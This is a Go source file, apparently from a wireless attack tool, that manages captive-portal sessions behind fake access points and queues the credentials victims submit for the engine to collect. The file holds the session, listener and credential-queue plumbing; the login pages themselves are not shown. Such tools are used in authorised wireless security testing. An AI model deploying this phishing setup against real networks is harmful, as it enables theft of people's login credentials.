// Package portal serves the captive login pages behind each fake access
// point and hands submitted credentials back to the engine.
package portal

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gorilla/mux"
	"github.com/lcalzada-xor/wkarma/internal/adapters/web/middleware"
	"github.com/lcalzada-xor/wkarma/internal/core/domain"
	"github.com/lcalzada-xor/wkarma/internal/core/ports"
)

var (
	// ErrInvalidHandle is returned when a handle was not issued by this server
	// or was already destroyed.
	ErrInvalidHandle = errors.New("invalid portal handle")
	// ErrEmptySSID is returned by Create for hidden networks.
	ErrEmptySSID = errors.New("portal needs an ssid")
)

// pendingCapacity bounds the credentials waiting for TakeCredential.
const pendingCapacity = 4

// Options configure a Server.
type Options struct {
	// ListenHost is the address each session's listener binds to, on an
	// ephemeral port. Empty means sessions are served only through Handler.
	ListenHost  string
	LoginLimit  int
	LoginWindow time.Duration
	Logger      *slog.Logger
}

// Server implements ports.CaptivePortal. Handles are *Session values.
type Server struct {
	opts    Options
	logger  *slog.Logger
	limiter *middleware.RateLimiter

	mu       sync.Mutex
	sessions map[*Session]struct{}
	stopping sync.WaitGroup
}

var _ ports.CaptivePortal = (*Server)(nil)

// Session is one running portal. Request handlers run on net/http goroutines;
// the engine only touches it through the Server methods.
type Session struct {
	ssid     string
	channel  int
	bssid    net.HardwareAddr
	security domain.SecuritySummary
	apName   string

	router *mux.Router
	srv    *http.Server
	addr   string

	hits     atomic.Int64
	serveErr atomic.Pointer[error]
	pending  chan domain.Credential
	closed   atomic.Bool
}

// NewServer creates a portal server.
func NewServer(opts Options) *Server {
	if opts.LoginLimit <= 0 {
		opts.LoginLimit = 5
	}
	if opts.LoginWindow <= 0 {
		opts.LoginWindow = time.Minute
	}
	if opts.Logger == nil {
		opts.Logger = slog.Default()
	}
	return &Server{
		opts:     opts,
		logger:   opts.Logger.With("component", "captive-portal"),
		limiter:  middleware.NewRateLimiter(opts.LoginLimit, opts.LoginWindow),
		sessions: make(map[*Session]struct{}),
	}
}

// Create starts a portal for ssid.
func (s *Server) Create(ssid string, channel int, opts domain.PortalOptions) (domain.PortalHandle, error) {
	if ssid == "" {
		return nil, ErrEmptySSID
	}
	sess := &Session{
		ssid:     ssid,
		channel:  channel,
		bssid:    append(net.HardwareAddr(nil), opts.BSSID...),
		security: opts.Security,
		apName:   apName(ssid, opts.BSSID),
		pending:  make(chan domain.Credential, pendingCapacity),
	}
	sess.router = s.routes(sess)

	if s.opts.ListenHost != "" {
		ln, err := net.Listen("tcp", net.JoinHostPort(s.opts.ListenHost, "0"))
		if err != nil {
			return nil, fmt.Errorf("portal listener for %q: %w", ssid, err)
		}
		sess.addr = ln.Addr().String()
		sess.srv = &http.Server{
			Handler:           sess.router,
			ReadHeaderTimeout: 5 * time.Second,
		}
		go func() {
			if err := sess.srv.Serve(ln); err != nil && !errors.Is(err, http.ErrServerClosed) {
				sess.serveErr.Store(&err)
			}
		}()
	}

	s.mu.Lock()
	s.sessions[sess] = struct{}{}
	s.mu.Unlock()

	s.logger.Info("portal created", "ssid", ssid, "channel", channel, "addr", sess.addr, "security", opts.Security.String())
	return sess, nil
}

// ProcessRequests reports how many requests the session served since the
// previous call.
func (s *Server) ProcessRequests(h domain.PortalHandle) (int, error) {
	sess, err := s.lookup(h)
	if err != nil {
		return 0, err
	}
	if errp := sess.serveErr.Load(); errp != nil {
		return 0, *errp
	}
	return int(sess.hits.Swap(0)), nil
}

// HasCredentials reports whether a submission is waiting.
func (s *Server) HasCredentials(h domain.PortalHandle) bool {
	sess, err := s.lookup(h)
	if err != nil {
		return false
	}
	return len(sess.pending) > 0
}

// TakeCredential pops the oldest waiting submission.
func (s *Server) TakeCredential(h domain.PortalHandle) (domain.Credential, bool) {
	sess, err := s.lookup(h)
	if err != nil {
		return domain.Credential{}, false
	}
	select {
	case c := <-sess.pending:
		return c, true
	default:
		return domain.Credential{}, false
	}
}

// APName is the label shown on the login page.
func (s *Server) APName(h domain.PortalHandle) string {
	sess, err := s.lookup(h)
	if err != nil {
		return ""
	}
	return sess.apName
}

// Addr is the listener address of a session, empty when not listening.
func (s *Server) Addr(h domain.PortalHandle) string {
	sess, err := s.lookup(h)
	if err != nil {
		return ""
	}
	return sess.addr
}

// Handler exposes a session's router.
func (s *Server) Handler(h domain.PortalHandle) http.Handler {
	sess, err := s.lookup(h)
	if err != nil {
		return http.NotFoundHandler()
	}
	return sess.router
}

// Destroy stops the session. Unknown handles are ignored.
func (s *Server) Destroy(h domain.PortalHandle) {
	sess, ok := h.(*Session)
	if !ok || sess == nil {
		return
	}
	s.mu.Lock()
	_, live := s.sessions[sess]
	delete(s.sessions, sess)
	s.mu.Unlock()
	if !live {
		return
	}
	sess.closed.Store(true)
	s.limiter.Prune()
	s.logger.Info("portal destroyed", "ssid", sess.ssid)

	// The listener drains in the background so the caller's tick is not held.
	s.stopping.Add(1)
	go func() {
		defer s.stopping.Done()
		s.shutdown(sess)
	}()
}

// Live reports how many sessions are running.
func (s *Server) Live() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.sessions)
}

// Close destroys every remaining session and waits for sessions destroyed
// earlier to finish shutting down.
func (s *Server) Close() error {
	s.mu.Lock()
	all := make([]*Session, 0, len(s.sessions))
	for sess := range s.sessions {
		all = append(all, sess)
	}
	s.sessions = make(map[*Session]struct{})
	s.mu.Unlock()

	for _, sess := range all {
		s.shutdown(sess)
	}
	s.stopping.Wait()
	return nil
}

func (s *Server) shutdown(sess *Session) {
	sess.closed.Store(true)
	if sess.srv == nil {
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	if err := sess.srv.Shutdown(ctx); err != nil {
		s.logger.Warn("portal shutdown", "ssid", sess.ssid, "error", err)
		sess.srv.Close()
	}
}

func (s *Server) lookup(h domain.PortalHandle) (*Session, error) {
	sess, ok := h.(*Session)
	if !ok || sess == nil {
		return nil, ErrInvalidHandle
	}
	s.mu.Lock()
	_, live := s.sessions[sess]
	s.mu.Unlock()
	if !live {
		return nil, ErrInvalidHandle
	}
	return sess, nil
}

func apName(ssid string, bssid net.HardwareAddr) string {
	if len(bssid) < 2 {
		return ssid
	}
	return fmt.Sprintf("%s-%02X%02X", ssid, bssid[len(bssid)-2], bssid[len(bssid)-1])
}
